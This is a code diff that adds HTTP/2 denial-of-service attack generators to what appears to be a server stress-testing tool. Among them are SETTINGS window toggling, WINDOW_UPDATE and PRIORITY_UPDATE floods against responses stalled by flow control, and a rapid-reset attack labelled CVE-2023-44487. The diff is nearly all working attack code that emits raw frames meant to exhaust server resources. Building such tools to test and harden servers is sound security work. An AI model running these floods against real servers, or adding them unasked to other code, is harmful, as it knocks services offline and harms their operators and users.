@@ -336,3 +336,101 @@ def tiny_windows() -> Frames:
         yield wire.headers(stream_id, GET, end=True)
     for stream_id in cycle(ids):
         yield wire.window_update(stream_id, 1)
+
+
+# Streams whose content waits for a window.
+
+#: A window of -1 for a stream that has sent one octet, and of 0.
+_TO_AND_FRO = settings((wire.INITIAL_WINDOW_SIZE, 0)) + settings((wire.INITIAL_WINDOW_SIZE, 1))
+FEW = 100
+_ONE_OCTET = {wire.INITIAL_WINDOW_SIZE: 1}
+
+
+@attack(
+    "settings-toggle-window-waiting",
+    f"INITIAL_WINDOW_SIZE to and fro, {2 * MANY:,} responses wait for a window",
+    cve=RESOURCES,
+    streams=2 * MANY,
+    answered=True,
+    content=LARGE,
+    own_settings=MANY_STREAMS,
+    peer_settings=_ONE_OCTET,
+)
+def settings_toggle_window_waiting() -> Frames:
+    while True:
+        yield _TO_AND_FRO
+
+
+@attack(
+    "settings-toggle-window-waiting-alone",
+    "the same, with reads of two SETTINGS frames",
+    cve=RESOURCES,
+    streams=2 * MANY,
+    answered=True,
+    content=LARGE,
+    own_settings=MANY_STREAMS,
+    peer_settings=_ONE_OCTET,
+    batch=2,
+)
+def settings_toggle_window_waiting_alone() -> Frames:
+    yield from settings_toggle_window_waiting()
+
+
+@attack(
+    "window-update-waiting",
+    f"WINDOW_UPDATE of 1 on {SOME:,} responses that wait for it",
+    cve=RESOURCES,
+    streams=SOME,
+    answered=True,
+    content=LARGE,
+    own_settings=SOME_STREAMS,
+    peer_settings=_ONE_OCTET,
+    batch=100,
+)
+def window_update_waiting() -> Frames:
+    for stream_id in cycle(range(1, 2 * SOME, 2)):
+        yield wire.window_update(stream_id, 1)
+
+
+@attack(
+    "priority-update-waiting",
+    f"PRIORITY_UPDATE for {FEW} responses that wait for a window",
+    streams=FEW,
+    answered=True,
+    content=LARGE,
+    own_settings=SOME_STREAMS,
+    peer_settings=_ONE_OCTET,
+    batch=100,
+)
+def priority_update_waiting() -> Frames:
+    for number, stream_id in enumerate(cycle(range(1, 2 * FEW, 2))):
+        value = b"u=%d, i" % (number % 8) if number & 1 else b"u=%d" % (number % 8)
+        yield wire.frame(wire.PRIORITY_UPDATE, 0, 0, struct.pack(">L", stream_id) + value)
+
+
+@attack(
+    "priority-update-ready",
+    "the same where only the window of the connection is used up",
+    streams=FEW,
+    answered=True,
+    content=LARGE,
+    own_settings=SOME_STREAMS,
+    batch=100,
+)
+def priority_update_ready() -> Frames:
+    yield from priority_update_waiting()
+
+
+@attack(
+    "reset-waiting",
+    "requests whose responses wait for a window, each reset",
+    cve="CVE-2023-44487",
+    content=10 * LARGE,
+    peer_settings=_ONE_OCTET,
+    batch=20,
+)
+def reset_waiting() -> Frames:
+    ids = wire.odd_numbers()
+    while batch := list(islice(ids, 20)):
+        yield b"".join(wire.headers(stream_id, GET, end=True) for stream_id in batch)
+        yield b"".join(wire.rst_stream(stream_id) for stream_id in batch)
